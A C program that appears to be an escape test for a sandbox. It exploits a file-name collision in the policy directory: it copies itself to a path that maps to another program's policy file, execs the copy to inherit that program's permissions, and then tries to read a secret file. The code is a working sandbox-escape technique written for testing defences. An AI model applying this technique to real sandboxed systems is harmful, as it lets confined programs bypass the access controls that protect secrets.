/* table_alias.c: a program takes another program's table through the policy directory's
 * file name, which is not one to one.
 *
 * A program's file in the policy directory is its path with "/" as "_": DIR/tools/lint and
 * DIR/tools_lint are both "_DIR_tools_lint.toml".  A traced program that may make files in
 * DIR (not in DIR/tools) copies itself to DIR/tools_lint and execs it: the exec switches to
 * the tools' table.
 *
 *   table_alias plant NEWPATH SECRET   copies this program to NEWPATH, execs it as "read"
 *   table_alias read SECRET            opens SECRET: ESCAPED when it gets it
 */
#include "attack.h"

int main(int argc, char **argv) {
    if (argc == 3 && strcmp(argv[1], "read") == 0) {
        try_open("open of the secret", argv[2]);
        tally_done();
    }
    if (argc != 4 || strcmp(argv[1], "plant") != 0)
        usage("table_alias plant NEWPATH SECRET | read SECRET");
    int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int out = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (in < 0 || out < 0)
        blocked("copy to %s: %s", argv[2], ename(errno));
    char buf[65536];
    ssize_t n;
    while ((n = read(in, buf, sizeof buf)) > 0)
        if (write(out, buf, (size_t)n) != n)
            blocked("write %s: %s", argv[2], ename(errno));
    close(in);
    close(out);
    execl(argv[2], argv[2], "read", argv[3], (char *)NULL);
    blocked("exec %s: %s", argv[2], ename(errno));
}
